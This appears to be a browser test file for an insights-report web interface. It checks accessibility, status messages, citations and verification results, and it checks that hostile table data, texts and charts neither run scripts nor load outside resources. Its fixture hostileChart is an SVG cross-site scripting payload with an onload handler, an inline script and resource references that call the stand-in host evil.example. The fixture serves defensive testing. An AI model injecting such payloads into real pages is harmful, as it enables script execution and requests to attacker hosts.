import type { InsightReport } from '@billumy/protocol';
import type { Page } from 'playwright-core';
import { expect, it } from 'vitest';
import { analyse, table } from '../support/analyse.ts';
import { seriousFaults } from '../support/axe.ts';
import type { VisitorOptions } from '../support/browser.ts';
import { hostileAnswers } from '../support/hostile-answers.ts';
import { hostileTable } from '../support/hostile-table.ts';
import { describeInBrowser } from '../support/in-browser.ts';
import { wasRun, watchRequests } from '../support/requests.ts';
import { sampleAnswer } from '../support/sample-answer.ts';
import { sampleInsight, sampleReport } from '../support/sample-report.ts';
import { isTooWide, visitors } from '../support/visitors.ts';

const hostileChart = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="300" height="100" onload="top.stolen = 1">
  <script>top.stolen = 1; fetch("http://evil.example/script")</script>
  <image href="http://evil.example/image.png" xlink:href="http://evil.example/old.png" width="10" height="10"/>
  <style>@import url("http://evil.example/style.css"); rect { fill: url("http://evil.example/fill.svg#a") }</style>
  <use href="http://evil.example/use.svg#a"/>
  <foreignObject width="100" height="100"><iframe xmlns="http://www.w3.org/1999/xhtml" src="http://evil.example/frame"></iframe></foreignObject>
  <a href="http://evil.example/link"><rect width="300" height="100"/></a>
</svg>`;

describeInBrowser('a report of insights', ({ url, enter }) => {
  async function openReport(report: InsightReport, visitor: VisitorOptions = {}): Promise<Page> {
    const page = await enter(visitor);
    await page.route(`**/insights/${report.id}`, (route) => route.fulfill({ json: report }));
    await page.goto(`${url()}/#/insights/reports/${report.id}`);
    await page.locator('.report').waitFor();
    return page;
  }

  it.each(visitors)('can be used by everybody: $theme, $width pixels, $language', async (visitor) => {
    const page = await enter(visitor);
    await page.goto(`${url()}/#/insights`);
    await analyse(page, { files: [table('perigosa.csv', hostileTable())] });
    for (const summary of await page.locator('summary').all()) await summary.click();
    expect(await seriousFaults(page)).toEqual([]);
    await page.getByRole('button', { name: /^(?:Corrigir colunas|Correct columns)$/ }).click();
    expect(await seriousFaults(page)).toEqual([]);
    expect(await isTooWide(page)).toBe(false);
  });

  it('runs and loads nothing that stands in the cells and names of a table', async () => {
    const page = await enter();
    const elsewhere = await watchRequests(page, url());
    await page.goto(`${url()}/#/insights`);
    await analyse(page, { files: [table('perigosa.csv', hostileTable())] });
    await page.getByRole('article').first().getByRole('img').waitFor();
    for (const summary of await page.locator('summary').all()) await summary.click();
    await page.locator('.rows').first().waitFor();
    const made = page.locator('.report :is(script, iframe, object, embed, video, link, style, form, a[href])');
    expect(await made.evaluateAll((elements) => elements.map((element) => element.outerHTML))).toEqual([]);
    expect(elsewhere).toEqual([]);
    expect(await wasRun(page)).toBe(false);
  });

  it('runs and loads nothing that stands in its texts and charts, whoever wrote them', async () => {
    const insights = hostileAnswers.slice(0, 60).map((text, index) =>
      sampleInsight({
        id: `i${index}`,
        headline: text,
        explanation: text,
        caveats: [text],
        chart: { vega_lite: {}, svg: hostileChart },
      }),
    );
    const page = await enter();
    const elsewhere = await watchRequests(page, url());
    const report = sampleReport({ insights, question: hostileAnswers[0] ?? '' });
    await page.route(`**/insights/${report.id}`, (route) => route.fulfill({ json: report }));
    await page.goto(`${url()}/#/insights/reports/${report.id}`);
    await page.getByRole('article').nth(59).getByRole('img').scrollIntoViewIfNeeded();
    await page.getByRole('article').nth(59).getByRole('img').click();
    expect(elsewhere).toEqual([]);
    expect(await wasRun(page)).toBe(false);
    expect(page.url()).toBe(`${url()}/#/insights/reports/${report.id}`);
  });

  it('opens what documents say at the words', async () => {
    const { citations } = sampleAnswer('x', '');
    const page = await openReport(sampleReport({ insights: [sampleInsight({ citations })] }));
    const text = `Prazos. ${'.'.repeat(2)}${citations[0]?.quote ?? ''} Fim.`;
    const content = { id: 'doc_played', revision: 1, title: 'Prazos', text, sections: [], pages: [] };
    await page.route('**/documents/doc_played/content**', (route) => route.fulfill({ json: content }));
    await page.getByRole('region', { name: 'O que os documentos dizem' }).getByRole('button').click();
    expect(await page.getByRole('dialog').locator('.viewer-highlight').innerText()).toBe(citations[0]?.quote);
  });

  it.each([
    ['partial', 'O tempo acabou antes de tudo ser examinado'],
    ['degraded', 'O modelo não pôde escrever'],
    ['running', 'O serviço ainda trabalha nesta análise.'],
  ] as const)('that is %s says what to make of it', async (status, text) => {
    const page = await openReport(sampleReport({ status }));
    await page.getByText(text).waitFor();
  });

  it('that failed says why', async () => {
    const error = { code: 'table_too_large', detail: 'Table "vendas": There are more than 1000 columns.' };
    const page = await openReport(sampleReport({ status: 'failed', insights: [], error }));
    await page.getByText('A tabela é maior do que o serviço lê.').waitFor();
    await page.getByText('more than 1000 columns').waitFor();
  });

  it('that does not hold any more names the queries that gave something else', async () => {
    const page = await openReport(sampleReport());
    const evidence = [{ insight_id: 'i1', id: 'e1', identical: false, result_hash: 'sha256:11' }];
    const verification = { id: 'ins_played', verified: false, evidence, facts: { checked: 1, different: 1 } };
    await page.route('**/insights/ins_played/verify', (route) => route.fulfill({ json: verification }));
    await page.getByRole('button', { name: 'Conferir' }).click();
    await page.getByText('Não confere: 0 de 1 consultas deram o mesmo resultado, e 1 de 1 números mudaram.').waitFor();
    await page.getByText('Consultas com outro resultado: e1.').waitFor();
  });
});
